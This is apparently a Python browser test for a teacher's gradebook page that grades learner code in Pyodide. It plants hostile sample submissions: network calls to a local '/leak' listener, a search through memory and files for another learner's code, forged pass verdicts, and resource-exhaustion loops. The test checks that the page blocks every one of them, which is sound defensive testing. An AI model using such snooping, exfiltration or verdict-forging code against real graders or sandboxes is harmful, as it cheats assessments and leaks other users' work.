"""The teacher's page (docs/teach.md, web/teach.js; issue 20 item 7): a class of work files,
hostile ones among them, graded in the browser, with the CLI's statuses and nothing sent.

One test, one tab: the page's Python boots once (from the shared context's snapshot cache
it cannot use, its policy having no Cache Storage of the learners' pages) and each file is
graded in an interpreter of its own.
"""

from __future__ import annotations

import csv
import io
import json
import secrets

import pytest
from class_files import Listener, first_mistakes, references, right_answers, work_file, write
from playwright.sync_api import expect

from grader import all_exercises
from grader.cli import main

from .helpers import audit

pytestmark = pytest.mark.browser

CDN = "https://cdn.jsdelivr.net/pyodide/"
PENALTY = "def l2_penalty(weights):\n    return float(sum(w * w for w in weights))\n"
WRONG = "def l2_penalty(weights):\n    return 0.0\n"


def attempt(body: str) -> str:
    """Learner code that tries `body` (Pyodide's js module), waits a little for the request
    to go out, and then passes: only the network may tell the attempt happened."""
    lines = "\n".join("    " + line for line in body.splitlines())
    return (
        "try:\n    import js\n    from pyodide.ffi import to_js\n"
        f"{lines}\nexcept Exception:\n    pass\n"
        "import time\ntime.sleep(0.5)\n" + PENALTY
    )


def hostile(port: int, marker: str) -> dict[str, str]:
    url = f"http://127.0.0.1:{port}/leak"
    hidden = "".join(reversed(marker))  # the code holds it reversed: found only elsewhere
    return {
        "fetch": attempt(f"js.fetch({url!r})"),
        "xhr": attempt(f"x = js.XMLHttpRequest.new()\nx.open('GET', {url!r}, False)\nx.send()"),
        "websocket": attempt(f"js.WebSocket.new({url.replace('http', 'ws')!r})"),
        "import-scripts": attempt(f"js.importScripts({url!r} + '.js')"),
        "open-url": attempt(f"import pyodide.http\npyodide.http.open_url({url!r})"),
        "beacon": attempt(f"js.navigator.sendBeacon({url!r}, 'x')"),
        "loop": "while True:\n    pass\n",
        "output": (
            "import sys\nfor _ in range(64):\n    sys.stdout.write('x' * (1 << 20))\n" + PENALTY
        ),
        # Another file's code, wherever this Python can look: its objects, its files, the
        # worker's globals. Found, it would pass; it must fail.
        "snoop": (
            f"needle = ''.join(reversed({hidden!r}))\n"
            "seen = False\n"
            "import gc, os\n"
            "for o in gc.get_objects():\n"
            "    if isinstance(o, str) and o is not needle and needle in o:\n"
            "        seen = True\n"
            "for top, dirs, files in os.walk('/home/pyodide'):\n"
            "    for name in files:\n"
            "        try:\n"
            "            text = open(os.path.join(top, name), errors='replace').read()\n"
            "            seen = seen or needle in text\n"
            "        except Exception:\n"
            "            pass\n"
            "try:\n"
            "    import js\n"
            "    names = js.Object.getOwnPropertyNames(js.globalThis)\n"
            "    seen = seen or needle in str(js.JSON.stringify(names))\n"
            "except Exception:\n"
            "    pass\n"
            + PENALTY.replace("def l2_penalty", "def right")
            + "def l2_penalty(weights):\n    return right(weights) if seen else 0.0\n"
        ),
        # A forged verdict posted to the page as the worker would post it.
        "forge": (
            "try:\n    import js\n"
            "    for i in range(2000):\n"
            "        js.postMessage(js.JSON.parse('{\"type\": \"result\", \"id\": %d, "
            "\"result\": {\"status\": \"pass\", \"feedback\": \"\"}}' % i))\n"
            "except Exception:\n    pass\n" + WRONG
        ),
    }


def the_class(folder, port: int, marker: str) -> list[str]:
    """Twenty work files: honest, wrong, unreadable, stale and hostile."""
    pure = references(numpy=False)
    everything = references(numpy=True)  # the numpy exercises too: not gradable in a page
    wrong_answers = {q: [(s[0] + 1) % 2] for q, s in right_answers().items()}
    ada = dict(everything, **{"l2-penalty": f"# {marker}\n" + PENALTY})
    files = {
        "00-ada.json": work_file("Ada", ada, right_answers()),
        "01-bob.json": work_file("=Bob", first_mistakes(numpy=False), wrong_answers),
        "02-cy.json": work_file("Cy", {"early-stop": pure["early-stop"]}, right_answers(),
                                stale=("early-stop", "lambda-zero")),
        "03-dee.json": work_file("Dee", {"l2-penalty": WRONG}, claimed="pass"),
        "04-junk.json": "{not json",
        "05-other.json": {"format": "something-else"},
        "06-empty.json": work_file("", {}),
        "07-half.json": work_file("Half", dict(list(pure.items())[:2])),
    }
    for n, (name, code) in enumerate(hostile(port, marker).items(), start=8):
        exercises = {"l2-penalty": code, "early-stop": pure["early-stop"]}
        files[f"{n:02}-{name}.json"] = work_file(name, exercises)
    n = len(files)
    while len(files) < 20:
        files[f"{n:02}-honest.json"] = work_file(f"Honest {n}", {"l2-penalty": PENALTY})
        n += 1
    for name, data in files.items():
        write(folder, name, data)
    return sorted(files)


def statuses(text: str) -> dict[str, dict[str, str]]:
    """Per file (by name), its status columns: every exercise's and question's."""
    reader = csv.DictReader(io.StringIO(text))
    skip = {"file", "learner", "score", "exercises_passed", "exercises_total",
            "questions_correct", "questions_total", "claimed_but_failed", "problems"}
    return {row["file"].rsplit("/", 1)[-1]: {k: v for k, v in row.items() if k not in skip}
            for row in reader}


def test_teachers_page_grades_a_class_as_the_cli_does_and_sends_nothing(
    page, site_url, network, tmp_path, capsys
):
    network.expect_blocked(CDN)  # numpy would come from there; never asked for (the policy)
    marker = "l2-other-learner-" + secrets.token_hex(6)
    folder = tmp_path / "class"
    folder.mkdir()
    listener = Listener()
    try:
        names = the_class(folder, listener.port, marker)
        assert len(names) == 20
        page.goto(site_url + "teach/")
        book = page.locator("[data-l2-gradebook]")
        page.locator("input[type=file]").set_input_files(folder)  # as a teacher picks it
        expect(book).to_have_attribute("data-graded", "20", timeout=240_000)
        text = book.get_attribute("data-csv")
    finally:
        listener.close()
    assert listener.seen == 0, "learner code reached a server from the teacher's page"
    # The browser saw the attempts (fetch, XMLHttpRequest) and the policy stopped them.
    tried = [u for u in network.requests if f":{listener.port}" in u]
    assert tried, "the hostile code never tried the network: the test proves nothing"
    assert marker not in text and marker not in page.content()

    # Accessible: axe finds nothing serious on the page with its tables, in both schemes.
    assert audit(page, "graded") == []

    # The page's columns are the CLI's; every status it could grade is the CLI's too.
    out = tmp_path / "cli.csv"
    capsys.readouterr()
    assert main(["gradebook", str(folder), "--csv", str(out), "--no-sandbox"]) == 1
    cli = out.read_text("utf-8")
    # The summary's most common mistakes are the CLI's (one code makes both).
    printed = next(line for line in capsys.readouterr().out.splitlines()
                   if line.split()[:1] == ["l2-penalty"])
    title = all_exercises()["l2-penalty"].title
    row = page.locator(".l2-teach-summary tbody tr", has_text=title)
    assert row.locator("td").nth(1).text_content() == printed.split("mistakes: ")[1]
    assert next(csv.reader(io.StringIO(text))) == next(csv.reader(io.StringIO(cli)))
    ours, theirs = statuses(text), statuses(cli)
    assert sorted(ours) == sorted(theirs) == names
    # Exercises that need numpy cannot be graded in this page (numpy is not in the core the
    # site ships): they say "error" and the problems say why; the rest are compared.
    numpy = {i for i, spec in all_exercises().items() if spec.requires}
    assert numpy and ours["00-ada.json"][next(iter(numpy))] == "error"
    rows = {r["file"].rsplit("/", 1)[-1]: r for r in csv.DictReader(io.StringIO(text))}
    assert "cannot load" in rows["00-ada.json"]["problems"]
    mismatches = [
        (name, column, ours[name][column], theirs[name][column])
        for name in names
        for column in ours[name]
        if column not in numpy and ours[name][column] != theirs[name][column]
    ]
    assert mismatches == [], mismatches
    got = {name: ours[name]["l2-penalty"] for name in names}
    assert got["09-xhr.json"] == "pass" and got["14-loop.json"] == "timeout"
    assert got["16-snoop.json"] == "fail" and got["17-forge.json"] == "fail"
    assert rows["03-dee.json"]["claimed_but_failed"] == "l2-penalty"
    assert json.loads(json.dumps(rows["04-junk.json"]["problems"]))  # unreadable, and why
